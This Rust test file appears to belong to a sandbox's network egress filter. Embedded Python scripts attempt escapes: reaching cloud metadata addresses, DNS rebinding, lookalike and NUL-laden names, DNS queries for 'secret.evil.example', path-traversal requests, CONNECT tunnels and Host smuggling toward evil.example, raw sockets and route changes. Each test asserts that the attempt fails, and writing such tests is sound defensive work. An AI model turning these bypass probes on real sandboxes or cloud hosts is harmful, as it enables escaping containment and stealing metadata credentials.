//! Attacks from inside, which must reach only granted hosts.

use crate::{
    EgressTest,
    outer::{PUBLIC, heads, name, reached, wait_for_end},
    place::{EgressDir, TOOLS},
};
use std::{
    io::{BufRead as _, BufReader},
    process::Stdio,
};

pub const TESTS: &[EgressTest] = &[
    ("addresses_without_a_grant_are_not_reached", addresses),
    ("names_that_resemble_a_granted_one_do_not_exist", names),
    ("name_that_leads_to_a_forbidden_address_is_not_reached", rebinding),
    ("granted_name_is_reached_at_its_granted_port_only", ports),
    ("bypasses_of_other_sandboxes_by_names_and_addresses_reach_nothing", other_names),
    ("bypasses_of_other_sandboxes_by_requests_reach_nothing", other_requests),
    ("udp_icmp_raw_and_packet_sockets_reach_nothing", other_protocols),
    ("dns_of_any_server_answers_for_granted_names_only", other_name_servers),
    ("tls_for_another_name_and_without_a_name_is_not_carried", other_tls),
    ("routes_and_addresses_cannot_be_changed_inside", routes),
    ("program_that_binds_synthetic_addresses_reaches_itself_only", own_listener),
    ("second_sandbox_does_not_know_the_names_of_the_first", two_sandboxes),
    ("profile_strict_has_internet_sockets_and_no_others", strict),
    ("end_of_the_gateway_ends_the_connections", death),
];

/// Runs a script with grants of `granted.example`, and asserts its output and that no server was reached. Returns the messages of
/// agentd.
fn reaches_nothing(backend: &str, script: &str, expected: &[&str]) -> String {
    name("granted.example", &[PUBLIC]);
    let (out, err) = EgressDir::new().python(backend, "granted.example:2222,granted.example:443,granted.example:80", script);
    assert_eq!(out.lines().collect::<Vec<_>>(), expected);
    assert_eq!(reached(), [""; 0]);
    err
}

fn addresses(backend: &str) {
    let script = "
for host in '93.184.216.34', '169.254.169.254', '127.0.0.1', '10.0.0.5', '198.18.77.7', '2606:4700::1111', '::ffff:10.0.0.5', '0.0.0.0':
    attempt(host, 2222)
attempt('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
attempt('93.184.216.34', 853)
attempt('1.1.1.1', 443)
";
    let expected = [
        "93.184.216.34 2222 ECONNRESET",
        "169.254.169.254 2222 ECONNRESET",
        "127.0.0.1 2222 ECONNRESET",
        "10.0.0.5 2222 ECONNRESET",
        "198.18.77.7 2222 ECONNRESET",
        "2606:4700::1111 2222 ECONNRESET",
        "::ffff:10.0.0.5 2222 ECONNRESET",
        "0.0.0.0 2222 ECONNRESET",
        "169.254.169.254 80 ECONNRESET",
        // No socket listens there.
        "93.184.216.34 853 ECONNREFUSED",
        "1.1.1.1 443 ECONNRESET",
    ];
    reaches_nothing(backend, script, &expected);
}

fn names(backend: &str) {
    for other in ["evilgranted.example", "granted.example.evil.example", "sub.granted.example", "granted.examplf"] {
        name(other, &[PUBLIC]);
    }
    let script = "
for host in 'evilgranted.example', 'granted.example.evil.example', 'sub.granted.example', 'granted.examplf', 'a' * 63 + '.example':
    attempt(host, 2222)
";
    let long = format!("{}.example 2222 no such name", "a".repeat(63));
    let expected = [
        "evilgranted.example 2222 no such name",
        "granted.example.evil.example 2222 no such name",
        "sub.granted.example 2222 no such name",
        "granted.examplf 2222 no such name",
        &long,
    ];
    reaches_nothing(backend, script, &expected);
}

fn rebinding(backend: &str) {
    name("rebind.example", &[PUBLIC, "169.254.169.254", "127.0.0.1", "10.0.0.5"]);
    let script = "
for _ in range(4): attempt('rebind.example', 2222, b'hello')
attempt('ReBind.Example.', 2222, b'hello')
";
    let (out, err) = EgressDir::new().python(backend, "rebind.example:2222", script);
    let expected = [
        "rebind.example 2222 hello",
        "rebind.example 2222 ECONNRESET",
        "rebind.example 2222 ECONNRESET",
        "rebind.example 2222 ECONNRESET",
        "ReBind.Example. 2222 ECONNRESET",
    ];
    assert_eq!(out.lines().collect::<Vec<_>>(), expected);
    assert!(reached().iter().all(|at| at.starts_with(PUBLIC)), "{:?}", reached());
    let line = "rebind.example:2222 was refused: the name leads to 169.254.169.254, which is link-local — allow it with --net \
                allow=169.254.169.254:2222";
    assert!(err.contains(line), "{err}");
}

fn ports(backend: &str) {
    name("granted.example", &[PUBLIC]);
    name("other.example", &[PUBLIC]);
    let script = "
attempt('granted.example', 2222, b'hello')
attempt('granted.example', 853)
attempt('granted.example', 443)
attempt('other.example', 2222)
";
    let (out, err) = EgressDir::new().python(backend, "granted.example:2222,other.example:443", script);
    let expected = [
        "granted.example 2222 hello",
        "granted.example 853 ECONNREFUSED",
        "granted.example 443 ECONNRESET",
        "other.example 2222 ECONNRESET",
    ];
    assert_eq!(out.lines().collect::<Vec<_>>(), expected);
    assert!(err.contains("granted.example:853 was refused") && err.contains("--net allow=granted.example:853"), "{err}");
    assert!(err.contains("other.example:2222 was refused") && err.contains("--net allow=other.example:2222"), "{err}");
    assert!(reached().iter().all(|at| at.starts_with(&format!("{PUBLIC}:2222")) || at.ends_with(":0")), "{:?}", reached());
}

/// The bypasses 1, 5, 6, 7 and 9 of published sandboxes: names with NUL, other spellings, names and addresses that lead to
/// metadata services, other ports, paths over IPv6 only.
fn other_names(backend: &str) {
    name("granted.example", &[PUBLIC]);
    for (host, address) in
        [("azure", "168.63.129.16"), ("cloud", "100.100.100.200"), ("near", "127.0.0.1"), ("lan", "192.168.1.1")]
    {
        name(&format!("{host}.granted.example"), &[address]);
    }
    let script = "
def labels(*parts): return b''.join(bytes([len(part)]) + part for part in parts) + b'\\0'
for parts in (b'evil\\0', b'granted', b'example'), (b'evil.example\\0.granted', b'example'), (b'granted.example',), (b'granted', b'example', b'evil'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(('8.8.8.8', 53))
    s.settimeout(2)
    while True:
        try:
            s.send(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels(*parts) + b'\\0\\1\\0\\1')
            answer = s.recv(1000)
            print(parts[0], 'code', answer[3] & 15 != 0, 'answers', answer[7])
            break
        except socket.timeout: pass
for host in 'azure', 'cloud', 'near', 'lan': attempt(host + '.granted.example', 2222)
for host in '64:ff9b::a9fe:a9fe', 'fd00:ec2::254', '::ffff:169.254.169.254', '::ffff:100.100.100.200', '2002:a9fe:a9fe::1', '::1':
    attempt(host, 2222)
attempt('near.granted.example', 22)
os.environ.update(NO_PROXY='*', no_proxy='*', HTTPS_PROXY='http://93.184.216.34:3128')
attempt('93.184.216.34', 3128)
";
    let (out, _) = EgressDir::new().python(backend, "granted.example:2222,*.granted.example:2222", script);
    let mut expected: Vec<String> = ["b'evil\\x00'", "b'evil.example\\x00.granted'", "b'granted.example'", "b'granted'"]
        .map(|first| format!("{first} code True answers 0"))
        .to_vec();
    let names = ["azure", "cloud", "near", "lan"].map(|host| format!("{host}.granted.example 2222 ECONNRESET"));
    let addresses =
        ["64:ff9b::a9fe:a9fe", "fd00:ec2::254", "::ffff:169.254.169.254", "::ffff:100.100.100.200", "2002:a9fe:a9fe::1", "::1"];
    expected.extend(names);
    expected.extend(addresses.map(|address| format!("{address} 2222 ECONNRESET")));
    expected.extend(["near.granted.example 22 ECONNREFUSED".to_owned(), "93.184.216.34 3128 ECONNREFUSED".to_owned()]);
    assert_eq!(out.lines().collect::<Vec<_>>(), expected);
    assert_eq!(reached(), [""; 0]);
}

/// The bypasses 2, 5, 8 and 10: `CONNECT` by a relay, hosts and paths in other forms, methods in headers, upgrades.
fn other_requests(backend: &str) {
    name("granted.example", &[PUBLIC]);
    let script = "
def ask(line, *more, host='granted.example'):
    context = ssl.create_default_context()
    with context.wrap_socket(connect('granted.example', 443), server_hostname='granted.example') as s:
        s.sendall('\\r\\n'.join([line + ' HTTP/1.1', 'Host: ' + host, *more, '', '']).encode())
        head = s.makefile('rb').readline().decode().split()
        print(line, *more, head[1] if head else 'end')
ask('GET /public/a')
for path in '/public/../admin', '/public/%2e%2e/admin', '/public//admin', '/public/%2Fadmin', '/public/..;/admin', '/admin':
    ask('GET ' + path)
ask('GET https://evil.example/public/a')
ask('GET /public/a', host='evil.example')
ask('GET /public/a', 'Host: evil.example')
ask('CONNECT evil.example:443')
ask('POST /public/a', 'Content-Length: 0')
ask('GET /public/a', 'X-HTTP-Method-Override: DELETE')
ask('GET /public/a', 'Connection: Upgrade', 'Upgrade: tunnel')
";
    let options = ["--net", "allow=granted.example/GET:/public/*"];
    let argv = ["/usr/bin/python3", "-c", &[TOOLS, script].concat()];
    let output = EgressDir::new().trusting(backend, &options, &argv).output().unwrap();
    let out = String::from_utf8_lossy(&output.stdout);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!((lines.first(), lines.len()), (Some(&"GET /public/a 200"), 14), "{output:?}");
    assert!(lines[1..].iter().all(|line| ["403", "400", "end"].iter().any(|end| line.ends_with(end))), "{out}");
    assert_eq!(heads("tls").len(), 1, "only the first request reaches the server: {:?}", heads("tls"));
}

fn other_protocols(backend: &str) {
    let script = "
def datagram(host, port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((host, port))
        s.send(b'x')
        s.settimeout(60)
        print('udp', s.recv(10))
    except OSError as e: print('udp', error(e))
datagram('93.184.216.34', 443)
datagram('granted.example', 443)
def kind(name, *args):
    try:
        socket.socket(*args)
        print(name, 'open')
    except OSError as e: print(name, error(e))
kind('ping', socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
kind('raw', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
kind('raw6', socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
kind('packet', socket.AF_PACKET, socket.SOCK_RAW, 0)
kind('sctp', socket.AF_INET, socket.SOCK_STREAM, 132)
kind('vsock', socket.AF_VSOCK, socket.SOCK_STREAM)
kind('netfilter', socket.AF_NETLINK, socket.SOCK_RAW, 12)
";
    let expected = [
        "udp ECONNREFUSED",
        "udp ECONNREFUSED",
        "ping EPROTONOSUPPORT",
        "raw EPERM",
        "raw6 EPERM",
        "packet EAFNOSUPPORT",
        "sctp EPROTONOSUPPORT",
        "vsock EAFNOSUPPORT",
        "netfilter EPROTONOSUPPORT",
    ];
    let err = reaches_nothing(backend, script, &expected);
    for to in ["93.184.216.34:443", "granted.example:443"] {
        assert!(err.contains(&format!("{to} was refused: no network grant covers UDP")), "{err}");
    }
}

fn other_name_servers(backend: &str) {
    name("secret.evil.example", &[PUBLIC]);
    let script = "
def question(name):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0\\0\\1\\0\\1'
def show(server, name, answer):
    print(server, name, 'code', answer[3] & 15, 'answers', answer[7])
for server in '8.8.8.8', '10.255.255.53', '127.0.0.53', '2001:4860:4860::8888':
    for name in 'granted.example', 'secret.evil.example':
        s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((server, 53))
        s.settimeout(2)
        while True:
            try:
                s.send(question(name))
                show(server, name, s.recv(1000))
                break
            except socket.timeout: pass
for name in 'granted.example', 'secret.evil.example':
    s = connect('8.8.8.8', 53)
    s.sendall(struct.pack('>H', len(question(name))) + question(name))
    show('tcp', name, s.recv(1000)[2:])
";
    let servers = ["8.8.8.8", "10.255.255.53", "127.0.0.53", "2001:4860:4860::8888", "tcp"];
    let expected: Vec<String> = servers
        .iter()
        .flat_map(|at| [format!("{at} granted.example code 0 answers 1"), format!("{at} secret.evil.example code 3 answers 0")])
        .collect();
    reaches_nothing(backend, script, &expected.iter().map(String::as_str).collect::<Vec<_>>());
}

fn other_tls(backend: &str) {
    name("granted.example", &[PUBLIC]);
    let script = "
secure('granted.example', 443, 'granted.example')
secure('granted.example', 443, 'api.granted.example')
attempt('granted.example', 443, b'SSH-2.0-x\\r\\n')
attempt('granted.example', 443, b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
attempt('granted.example', 80, b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
attempt('granted.example', 80, b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: granted.example\\r\\n\\r\\n')
attempt('granted.example', 80, b'GET /y HTTP/1.1\\r\\nHost: granted.example\\r\\n\\r\\n')
";
    let (out, err) = EgressDir::new().python(backend, "granted.example,granted.example:80", script);
    let lines: Vec<&str> = out.lines().filter(|line| !line.is_empty()).collect();
    assert_eq!(lines[0], "granted.example HTTP/1.1 200 OK", "{out}");
    assert_eq!(lines[1], "api.granted.example ECONNRESET", "{out}");
    assert_eq!(lines[2..4], ["granted.example 443 ECONNRESET"; 2], "{out}");
    assert_eq!(lines.iter().filter(|line| line.contains("HTTP/1.1 403 Forbidden")).count(), 2, "{out}");
    assert_eq!(lines.iter().filter(|line| **line == "granted.example 80 HTTP/1.1 200 OK").count(), 1, "{out}");
    assert_eq!(reached(), [format!("{PUBLIC}:443"), format!("{PUBLIC}:80")]);
    assert!(err.contains("granted.example:443 was refused: "), "{err}");
}

fn routes(backend: &str) {
    let script = "
def request(kind, body, flags=5):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack('=IHHII', 16 + len(body), kind, flags, 1, 0) + body)
    code = -struct.unpack('=i', s.recv(1000)[16:20])[0]
    return errno.errorcode.get(code, code)
local = struct.pack('=8BI', 2, 0, 0, 0, 254, 3, 254, 2, 0)
print('delete the route', request(25, local))
print('add a route', request(24, local, 0x405))
print('lo down', request(16, struct.pack('=BxHiII', 0, 0, 1, 0, 1)))
print('new link', request(16, struct.pack('=BxHiII', 0, 0, 0, 0, 0), 0x605))
attempt('granted.example', 853)
";
    let expected =
        ["delete the route EPERM", "add a route EPERM", "lo down EPERM", "new link EPERM", "granted.example 853 ECONNREFUSED"];
    reaches_nothing(backend, script, &expected);
}

fn own_listener(backend: &str) {
    name("granted.example", &[PUBLIC]);
    let script = "
address = socket.gethostbyname('granted.example')
def listen(host, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        s.bind((host, port))
        s.listen()
        print('listens', port)
    except OSError as e: print(port, error(e))
    return s
for host in address, '0.0.0.0', '127.0.0.1': listen(host, 2222)
listen('0.0.0.0', 53)
s = listen(address, 9999)
c = connect(address, 9999)
a, peer = s.accept()
a.sendall(b'from inside')
print(c.recv(100))
attempt('granted.example', 2222, b'hello')
";
    let (out, _) = EgressDir::new().python(backend, "granted.example:2222", script);
    let unprivileged = "53 EACCES";
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[..3], ["2222 EADDRINUSE"; 3], "{out}");
    assert!(lines[3] == unprivileged || lines[3] == "53 EADDRINUSE", "{out}");
    assert_eq!(lines[4..], ["listens 9999", "b'from inside'", "granted.example 2222 hello"], "{out}");
}

fn two_sandboxes(backend: &str) {
    name("granted.example", &[PUBLIC]);
    name("other.example", &[PUBLIC]);
    let place = EgressDir::new();
    let (first, _) = place.python(backend, "granted.example:2222", "print(socket.gethostbyname('granted.example'))");
    let script = format!("attempt('granted.example', 2222)\nattempt('{}', 2222)", first.trim());
    let (second, _) = place.python(backend, "other.example:2222", &script);
    let expected = ["granted.example 2222 no such name".to_owned(), format!("{} 2222 ECONNRESET", first.trim())];
    assert_eq!(second.lines().collect::<Vec<_>>(), expected);
    assert_eq!(reached(), [""; 0]);
}

fn strict(backend: &str) {
    name("granted.example", &[PUBLIC]);
    let script = "
attempt('granted.example', 2222, b'hello')
for family, kind, protocol in (socket.AF_UNIX, socket.SOCK_STREAM, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_RAW, 1):
    try: socket.socket(family, kind, protocol); print('open')
    except OSError as e: print(error(e))
";
    let place = EgressDir::new();
    let tools = ["import errno, socket\ndef error(e): return errno.errorcode.get(e.errno, str(e))", ATTEMPT, script].join("\n");
    let options = ["--profile", "strict", "--net", "allow=granted.example:2222"];
    let output = place.run(backend, &options, &["/usr/bin/python3", "-c", &tools]);
    assert_eq!(String::from_utf8_lossy(&output.stdout), "hello\nEAFNOSUPPORT\nEAFNOSUPPORT\nEPERM\n", "{output:?}");
}

const ATTEMPT: &str = "
def attempt(host, port, data):
    s = socket.create_connection((host, port))
    s.sendall(data)
    print(s.recv(100).decode())
";

fn death(backend: &str) {
    name("granted.example", &[PUBLIC]);
    let script = "
import socket, time
s = socket.create_connection(('granted.example', 2222))
s.sendall(b'hello')
print(s.recv(10), flush=True)
time.sleep(3600)
";
    let place = EgressDir::new();
    let mut command = place.command(backend, &["--net", "allow=granted.example:2222"], &["/usr/bin/python3", "-c", script]);
    let mut run = command.stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(run.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "b'hello'\n");
    run.kill().unwrap();
    run.wait().unwrap();
    wait_for_end(PUBLIC);
}
